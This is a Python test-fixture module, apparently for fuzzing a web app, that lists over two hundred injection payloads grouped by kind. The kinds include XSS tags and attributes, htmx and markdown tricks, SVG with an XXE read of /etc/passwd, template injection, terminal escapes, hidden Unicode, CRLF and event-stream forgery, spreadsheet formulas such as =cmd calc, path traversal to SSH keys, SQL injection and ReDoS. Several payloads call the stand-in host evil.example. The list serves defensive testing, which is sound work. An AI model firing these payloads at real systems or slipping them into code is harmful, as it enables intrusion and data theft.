"""What a hostile agent, plan or page writes into every field it may fill: more than two hundred payloads.

Each that could run something sets ``window.canary``, asks for ``https://evil.example`` or opens a dialog, so that a
browser which is taken in by it shows it.
"""

# ruff: noqa: E501 - a payload stands on its line as it is
from __future__ import annotations

HOST = "evil.example"
_RUN = "window.canary=1"

TAGS = [
    f"<script>{_RUN}</script>", f"<ScRiPt>{_RUN}</sCrIpT>", f"<script src=//{HOST}/x.js></script>",
    f"<script/x>{_RUN}</script>", f"<<script>{_RUN}//<</script>", f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"</title><script>{_RUN}</script>", f"</textarea><script>{_RUN}</script>", f"</script><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>", f"--><script>{_RUN}</script>", f"]]><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>", f"<img src=x onerror='{_RUN}'//", f"<IMG SRC=x OnErRoR={_RUN}>",
    f"<img/src/onerror={_RUN}>", f"<img src=https://{HOST}/p.png>", f"<video><source onerror={_RUN}>",
    f"<audio src=x onerror={_RUN}>", f"<body onload={_RUN}>", "<iframe srcdoc='<script>top.canary=1</script>'></iframe>",
    f"<iframe src=//{HOST}></iframe>", f"<object data=//{HOST}/x.swf></object>", f"<embed src=//{HOST}/x.swf>",
    f"<input autofocus onfocus={_RUN}>", f"<select autofocus onfocus={_RUN}>", f"<details open ontoggle={_RUN}>",
    f"<marquee onstart={_RUN}>", f"<form action=//{HOST}><button>Retry</button></form>",
    '<form action="/orders" method="post"><input name="type" value="task.cancel"><button>Retry</button></form>',
    f"<button formaction=//{HOST}>Save</button>", f"<base href=//{HOST}/>", f"<link rel=stylesheet href=//{HOST}/x.css>",
    f"<meta http-equiv=refresh content='0;url=//{HOST}'>", "<style>*{display:none}</style>",
    f"<style>@import url(//{HOST}/x.css);</style>", f"<a href=javascript:{_RUN}>Retry</a>", "<plaintext>", "<xmp>", "<!--",
    "<noscript><p title='</noscript><img src=x onerror=window.canary=1>'>", f"<template><script>{_RUN}</script></template>",
    f"<portal src=//{HOST}>", f"<keygen autofocus onfocus={_RUN}>", f"<isindex action=javascript:{_RUN}>",
    "<dialog open>You were signed out. <input name=token></dialog>", f"<bgsound src=//{HOST}>",
]  # fmt: skip
ATTRIBUTES = [
    f'" onmouseover={_RUN} x="', f"' onmouseover={_RUN} x='", f'" autofocus onfocus="{_RUN}', f"'><script>{_RUN}</script>",
    f'"><script>{_RUN}</script>', f"` onerror={_RUN}", f'" style="background:url(//{HOST}/x)', '" hidden x="',
    '" class="toast" x="', f'" href="javascript:{_RUN}', f'"/><use href="data:image/svg+xml,<svg id=x><script>{_RUN}</script>',
    '" id="toasts', '" name="type" value="task.cancel', '"><template', "\"'`=<>&", "x\" y='",
]  # fmt: skip
HTMX = [
    '<div hx-get="/logout" hx-trigger="load">', '<div hx-post="/orders" hx-trigger="load" hx-vals=\'{"type":"core.halt"}\'>',
    f'<div hx-on:click="{_RUN}">', f'<div hx-on::load="{_RUN}">', f"<div hx-vals='js:{{x:{_RUN}}}' hx-get=/ hx-trigger=load>",
    f'<div data-hx-get="//{HOST}" data-hx-trigger="load">', '" hx-get="/logout" hx-trigger="load',
    f'<div hx-sse:connect="//{HOST}/live">', '<hx-partial hx-target="body" hx-swap="innerHTML">gone</hx-partial>',
    f"<div hx-headers='js:{{a: {_RUN}}}'>", '<template hx type="partial" hx-target="#main">gone</template>',
    '<div id="main" hx-swap-oob="true">gone</div>', '" data-over="halt" x="', "<div data-close hidden>",
]  # fmt: skip
LINKS = [
    f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}", f"java\tscript:{_RUN}", f"java\nscript:{_RUN}", f" javascript:{_RUN}",
    f"javascript&colon;{_RUN}", f"javascript&#58;{_RUN}", f"\x01javascript:{_RUN}", "vbscript:msgbox(1)",
    f"data:text/html,<script>{_RUN}</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuY2FuYXJ5PTE8L3NjcmlwdD4=",
    f"data:image/svg+xml,<svg onload={_RUN}>", f"//{HOST}", f"/\\{HOST}", f"https://{HOST}@127.0.0.1/", "file:///etc/passwd",
    "blob:null/1", "feed:javascript:alert(1)", "view-source:http://127.0.0.1/", "/logout", "/orders?type=core.halt",
    f"http://{HOST}:80#@127.0.0.1", "mailto:a@b?subject=%0d%0aBcc:x",
]  # fmt: skip
SVG = [
    f"<svg onload={_RUN}>", f"<svg><script>{_RUN}</script></svg>", f"<svg><script xlink:href=//{HOST}/x.js></script></svg>",
    f"<svg><a xlink:href=javascript:{_RUN}><text>Open</text></a></svg>", f"<svg><animate onbegin={_RUN} attributeName=x>",
    f"<svg><set attributeName=href to=javascript:{_RUN}>", f"<svg><use href=//{HOST}/x.svg#a>",
    f"<svg><image href=//{HOST}/x.png></svg>", f"<svg><foreignObject><body onload={_RUN}></foreignObject></svg>",
    "</text></svg><h1>Gone</h1>", f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<math href=javascript:{_RUN}>Retry</math>",
    f"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg' onload='{_RUN}'>&x;</svg>",
]  # fmt: skip
MARKDOWN = [
    f"[Retry](javascript:{_RUN})", f"[Retry](JaVaScRiPt:{_RUN})", f"[Retry](java&#x73;cript:{_RUN})",
    f"[Retry](<javascript:{_RUN}>)", f"[Retry](data:text/html,<script>{_RUN}</script>)", f"![x](https://{HOST}/p.png)",
    f'![x](x"onerror="{_RUN})', f"![x][ref]\n\n[ref]: https://{HOST}/p.png", f"[x]: javascript:{_RUN}\n\n[x]",
    f"<https://{HOST}>", f"<javascript:{_RUN}>", f"https://{HOST}/?<script>{_RUN}</script>", f'[a](https://a.example "\' onclick={_RUN})',
    f"`<script>{_RUN}</script>`", f"```html\n<script>{_RUN}</script>\n```", f'~~~"onload={_RUN}\n~~~', f"    <script>{_RUN}</script>",
    "[Sign out](/logout)", "[Halt](/orders)", "[x](//evil.example)", "[x](\\\\evil.example)", "[a](b)![c](d)[e](f)",
    f"| a |\n|---|\n| <img src=x onerror={_RUN}> |", f"> <script>{_RUN}</script>", f"# <script>{_RUN}</script>",
    "# One\n# Two\n###### Six", f"1. <img src=x onerror={_RUN}>", "[" * 400 + "x" + "]" * 400, "*" * 500, "> " * 300 + "deep",
    f"<details><summary>x</summary><script>{_RUN}</script></details>", "&lt;script&gt;alert(1)&lt;/script&gt;", "\\<script\\>",
    "[x](http://a.example/\u202egnp.exe)", f"[](javascript:{_RUN})", "[a\n](b)", "---\ntitle: x\n---",
]  # fmt: skip
ENTITIES = [
    "&lt;script&gt;window.canary=1&lt;/script&gt;", "&#60;script&#62;window.canary=1&#60;/script&#62;", "&#x3c;img src=x&#x3e;",
    "&quot; onmouseover=window.canary=1 x=&quot;", "&NewLine;&Tab;javascript&colon;alert(1)", "&amp;lt;b&amp;gt;", "&#0;&#x110000;",
    "\\u003cscript\\u003ewindow.canary=1\\u003c/script\\u003e", "%3Cscript%3Ewindow.canary=1%3C/script%3E", "+ADw-script+AD4-",
    "\ufe64script\ufe65", "\uff1cscript\uff1ewindow.canary=1\uff1c/script\uff1e",
]  # fmt: skip
TEMPLATES = [
    "{{7*7}}", "{% raw %}{{ look }}{% endraw %}", "{{ config }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in range(10**9) %}x{% endfor %}", "{{ self._TemplateReference__context }}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{{constructor.constructor('window.canary=1')()}}", "{# a comment #}", "{{ [].append.__globals__ }}", "%(secret)s %n%n%n%s",
    "{0.__class__}", "$(touch canary)", "`touch canary`", "; touch canary #", "@/etc/passwd", "--help", "-rf",
    "{{title}} {{prefix}}", "__proto__", "constructor", "__class__",
]  # fmt: skip
TERMINAL = [
    "\x1b[2J\x1b[H", "\x1b]0;owned\x07", "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07", "safe\rEVIL", "\x1b[1A\x1b[2Kforged line",
    "\x1b[8mhidden\x1b[0m", "\x1b[31mred", "\x1b[999999999C", "\x1b[38;5;999999m", "\x1b[0;0;0;0;0;0;0;0;0;0;0;0;0;0;0;0;0m",
    "\x1bP+q544e\x1b\\", "\x1b]52;c;ZXZpbA==\x07", "\x1b[?1049h", "\x9b31m", "\x08\x08\x08\x08overwritten", "\x0e\x0f", "bell\x07",
    "\x1b[6n", "\x1b]1337;File=name=eA==;inline=1:AAAA\x07", "\x1b%G\x1bc", "form\x0cfeed\x0bvtab", "\x1b[3J", "\x1b_Gf=100;AAAA\x1b\\",
]  # fmt: skip
HIDDEN = [
    "\u202egnp.exe", "safe\u202e\u2066// evil\u2069", "\u2067rtl\u2069", "\u200bzero\u200bwidth", "a\u200d\u200cb", "\ufeffbom",
    "\u2060word\u2060joiner", "\u00adsoft\u00adhyphen", "\u034fgrapheme", "\u115f\u1160filler", "\u3164", "\u180emongolian", "\uffa0half",
    "\U000e0041\U000e0042tags", "\ufe0f\ufe0f\ufe0f", "\u2028line\u2029paragraph", "\u206a\u206f", "\u061carabic mark", "\ufff9a\ufffab\ufffb",
    "Z" + "\u0351\u0367\u036e" * 60, "\u0000NUL", "\x00", "\x7f\x80\x9f", "t-1\u00a0done", "\u17b4\u17b5",
]  # fmt: skip
LOOKALIKES = [
    "dеfault/t-1",
    "Rеtry",
    "аdmin",
    "ѕession",
    "pаypаl.example",
    "ⅠⅡⅢ",
    "１２３",
    "𝒄𝒂𝒏𝒄𝒆𝒍",
    "K (Kelvin)",
    "ﬁle",
]
LINES = [
    "a\r\nSet-Cookie: canary=1", "a\nLocation: //evil.example", "a\n\ndata: forged\n\n", "\n\nevent: reset\ndata: x\n\n",
    "x\r\rdata: forged\r\r", "\nid: 99999999.1\n\n", ":comment\n\nretry: 1\n\n", "2026-01-01 operator done core.halt\n", "%0d%0aX: y",
    '{"stream":"EVENTS"}\n{"end":true}', "a\x85b\x0bc", "\r", "\n", "line\u2028data: forged\u2028\u2028",
]  # fmt: skip
FORMULAS = [
    "=1+1", "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", '=HYPERLINK("https://evil.example","Open")', "\t=1+1", "\r=1+1",
    '"=1+1', "=1+1\n=2+2", '";=1+1;"', "\uff1d1+1", " =1+1", "%=1", '=IMPORTXML("//evil.example")', '"\n"a","b","c"',
]  # fmt: skip
PATHS = [
    "../../../../etc/passwd", "/etc/passwd", "..\\..\\windows\\win.ini", "C:\\boot.ini", "....//....//x", "%2e%2e%2fx", "a/../../b",
    "x\x00.png", "CON", "aux.txt", ".", "..", "~", "~root", "a" * 300 + ".txt", '"; filename="x.html', "x.html;.txt", "con\\nul",
    "\\\\evil.example\\share", "file name with  spaces.txt", "-rf *", "$HOME/.ssh/id_rsa", "x?y#z", "a:b:stream",
]  # fmt: skip
LONG = [
    "W" * 500, "word " * 90, "漢" * 160, "👩‍👩‍👧‍👦" * 30, "ا" * 200, "-" * 400, "a/" * 200, "." * 300, "\t" * 100, " " * 200,
]  # fmt: skip
NUMBERS = [
    "1e999",
    "-0",
    "NaN",
    "Infinity",
    "9" * 400,
    "0x41414141",
    "1_000",
    "٣",
    "18446744073709551616",
    "true",
    "null",
    "[]",
    "{}",
]
BOMBS = [
    "(a+)+$" + "a" * 40 + "!", "^(([a-z])+.)+[A-Z]([a-z])+$", "(.*a){30}", "a" * 200 + "!", "%" * 200, "_" * 100, "[" * 200, "\\" * 200,
    '"' * 99, "state:failed OR 1=1 --", "'; drop table tasks; --", "state:" * 60, "cost:>1e400", "since:999999999999h", "label:\u0000",
]  # fmt: skip
DIFFS = [
    "diff --git a/x b/../../x\n--- a/x\n+++ b/../../x\n@@ -1 +1 @@\n-a\n+<script>window.canary=1</script>",
    "--- a\n+++ b\n@@ -1,99999999999999999999 +1 @@\n+x", "@@ @@\n@@ -0,0 +0,0 @@", "--- /dev/null\n+++ b/x\n@@ -0,0 +1 @@\n+\u202eevil",
    "diff --git\nnew file mode 120000\n--- /dev/null\n+++ b/link\n@@ -0,0 +1 @@\n+/etc/passwd", "-" * 300, "+++ " + "b" * 300, "\\ No newline",
    "Binary files a/x and b/x differ", "rename from a\nrename to <img src=x onerror=window.canary=1>",
    "--- a/x\t2026\n+++ b/x\n@@ -1 +1 @@ </code><script>window.canary=1</script>\n-a\n+b", "@@ -1 +1 @@\n" + "+" * 300,
]  # fmt: skip
DEEP = [
    "[" * 300 + "]" * 300,
    '{"a":' * 200 + "1" + "}" * 200,
    '{"__proto__":{"canary":1}}',
    '{"a":1,"a":2}',
    '"\\ud800"',
    "\\ud83d",
]

GROUPS: dict[str, list[str]] = {
    "tags": TAGS, "attributes": ATTRIBUTES, "htmx": HTMX, "links": LINKS, "svg": SVG, "markdown": MARKDOWN, "entities": ENTITIES,
    "templates": TEMPLATES, "terminal": TERMINAL, "hidden": HIDDEN, "lookalikes": LOOKALIKES, "lines": LINES, "formulas": FORMULAS,
    "paths": PATHS, "long": LONG, "numbers": NUMBERS, "bombs": BOMBS, "diffs": DIFFS, "deep": DEEP,
}  # fmt: skip
CORPUS: list[str] = list(dict.fromkeys(payload for group in GROUPS.values() for payload in group))


def name_of(payload: str, most: int = 40) -> str:
    """The payload as far as an id may hold it: no space, control character, slash, tilde, star, ``>``, quote, backslash."""
    kept = "".join(sign for sign in payload if sign > " " and sign not in '/~*>"\\\x7f')
    while len(kept.encode()) > most:
        kept = kept[:-1]
    return kept
